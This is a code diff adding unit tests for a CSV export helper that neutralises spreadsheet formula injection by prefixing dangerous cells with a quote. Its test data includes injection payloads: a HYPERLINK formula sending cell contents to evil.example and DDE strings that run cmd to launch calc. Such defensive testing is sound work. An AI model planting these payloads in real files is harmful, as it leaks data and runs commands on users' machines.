@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { csvLines, csvRow, ExportPartError, flattenRecord, jsonLines } from '../../shared/fulfilment/export-records.js';
+import { csvLines, csvRow, ExportPartError, flattenRecord, jsonLines, neutraliseFormula } from '../../shared/fulfilment/export-records.js';
 
 async function collect<T>(values: AsyncIterable<T>): Promise<T[]> {
   const out: T[] = [];
@@ -83,5 +83,39 @@ describe('csvLines', () => {
 
     // Assess
     expect(text).toBe('id,note,active,missing\r\n7,"says ""hi"", twice\nthen leaves",false,\r\n');
+  });
+});
+
+describe('neutraliseFormula', () => {
+  it.each([
+    { note: 'a hyperlink formula', text: '=HYPERLINK("https://evil.example/?x="&A1,"Click")', cell: '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")' },
+    { note: 'a DDE command', text: "=cmd|' /C calc'!A0", cell: "'=cmd|' /C calc'!A0" },
+    { note: 'a sum that starts with a plus', text: '+1+2', cell: "'+1+2" },
+    { note: 'a formula that starts with a minus', text: "-2+3+cmd|' /C calc'!A0", cell: "'-2+3+cmd|' /C calc'!A0" },
+    { note: 'an at-sign function', text: "@SUM(1+1)*cmd|' /C calc'!A0", cell: "'@SUM(1+1)*cmd|' /C calc'!A0" },
+    { note: 'a leading tab', text: '\t=1+1', cell: "'\t=1+1" },
+    { note: 'a leading carriage return', text: '\r=1+1', cell: "'\r=1+1" },
+    { note: 'a lone sign', text: '-', cell: "'-" },
+    { note: 'an email address with an at-sign inside', text: 'anna@example.com', cell: 'anna@example.com' },
+    { note: 'a formula character later in the text', text: 'a=b+c', cell: 'a=b+c' },
+    { note: 'a negative number', text: '-12.5', cell: '-12.5' },
+    { note: 'a phone number with a plus', text: '+4930123456', cell: '+4930123456' },
+    { note: 'a number with an exponent', text: '-1e5', cell: '-1e5' },
+    { note: 'empty text', text: '', cell: '' },
+  ])('writes $note as it should be read', ({ text, cell }) => {
+    expect(neutraliseFormula(text)).toBe(cell);
+  });
+});
+
+describe('csvLines and formulas', () => {
+  it('neutralises formula cells in headers and values, and leaves JSON numbers as numbers', () => {
+    // Prepare
+    const columns = ['=1+1', 'note', 'balance'];
+
+    // Act
+    const text = csvLines([columns, csvRow({ '=1+1': '@SUM(A1:A2)', note: "=cmd|' /C calc'!A0", balance: -5 }, columns)]);
+
+    // Assess
+    expect(text).toBe("'=1+1,note,balance\r\n'@SUM(A1:A2),'=cmd|' /C calc'!A0,-5\r\n");
   });
 });
